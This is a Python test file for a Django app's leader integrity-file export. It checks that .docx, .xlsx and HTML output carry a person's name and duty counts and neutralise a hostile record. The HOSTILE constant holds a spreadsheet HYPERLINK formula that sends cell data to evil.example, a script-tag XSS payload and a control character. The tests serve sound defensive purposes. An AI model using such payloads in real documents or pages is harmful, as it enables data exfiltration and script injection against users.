"""The leader's file as .docx and .xlsx: both open, hold the person's name and the
counts, and carry a hostile fulfilment content as harmless text (as the page does)."""

from __future__ import annotations

import datetime
import io
from urllib.parse import unquote

import pytest
import time_machine
from django.test import Client
from django.urls import reverse
from docx import Document
from openpyxl import load_workbook

from qingfeng.duties.leader_file import portrait
from qingfeng.duties.models import TaskDue
from qingfeng.duties.services import fulfilment_record
from qingfeng.lib.documents import docx_text
from tests.duties.conftest import Team

pytestmark = pytest.mark.django_db

HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"click") <script>alert(1)</script>\x07end'
AS_OF = datetime.date(2026, 4, 20)


def commission(team: Team) -> Client:
    client = Client()
    client.force_login(team.commission_user)
    return client


def record_hostile(team: Team) -> None:
    due = (
        TaskDue.objects.filter(duty_list=team.principal_list, starts__lte=AS_OF)
        .order_by("due")
        .first()
    )
    assert due is not None
    fulfilment_record(due=due, done_on=due.starts, content=HOSTILE, actor=None, today=AS_OF)


def download(team: Team, name: str) -> tuple[bytes, str]:
    with time_machine.travel(AS_OF, tick=False):
        response = commission(team).get(reverse(name, args=[team.org.person_a1.pk]))
    assert response.status_code == 200
    return response.content, unquote(response["Content-Disposition"])


def test_it_exports_the_file_as_a_word_document(team: Team) -> None:
    record_hostile(team)
    data, disposition = download(team, "duties:leader_file_docx")
    assert "王建国_廉政档案_2026.docx" in disposition
    Document(io.BytesIO(data))  # opens
    text = docx_text(data)
    assert "王建国" in text and "廉政档案" in text and "履责画像" in text
    result = portrait(user=team.commission_user, person=team.org.person_a1, today=AS_OF)
    assert f"应完成事项{result.total.dues}项" in text
    assert str(result.total.dues) in text.splitlines()
    # The hostile content is text: the tag and the formula as words, no control character.
    assert "<script>alert(1)</script>" in text
    assert '=HYPERLINK("http://evil.example/?"&A1,"click")' in text
    assert "\x07" not in text and "alert(1)</script>end" in text


def test_it_exports_the_file_as_a_workbook(team: Team) -> None:
    record_hostile(team)
    data, disposition = download(team, "duties:leader_file_xlsx")
    assert "王建国_廉政档案_2026.xlsx" in disposition
    book = load_workbook(io.BytesIO(data))
    assert book.sheetnames == ["履责画像", "年度趋势", "廉政档案"]
    portrait_sheet = book["履责画像"]
    assert "王建国" in str(portrait_sheet["A1"].value)
    headers = [cell.value for cell in portrait_sheet[3]]
    assert headers[:3] == ["类别", "应完成", "红色"]
    result = portrait(user=team.commission_user, person=team.org.person_a1, today=AS_OF)
    total = [cell.value for cell in portrait_sheet[portrait_sheet.max_row]]
    assert total[0] == "全部类别" and total[1] == result.total.dues
    lights = ("red", "orange", "yellow", "green", "grey")
    assert total[2:7] == [result.total.lights[k] for k in lights]
    events = book["廉政档案"]
    contents = [row[3] for row in events.iter_rows(min_row=4, values_only=True)]
    hostile = next(value for value in contents if value and "HYPERLINK" in value)
    assert hostile.startswith("'=")  # stays text in a spreadsheet program
    assert "\x07" not in hostile and "<script>" in hostile


def test_it_escapes_a_hostile_content_on_the_page(team: Team) -> None:
    record_hostile(team)
    with time_machine.travel(AS_OF, tick=False):
        html = commission(team).get(reverse("duties:leader_file", args=[team.org.person_a1.pk]))
    page = html.content.decode()
    assert "<script>alert(1)</script>" not in page
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in page
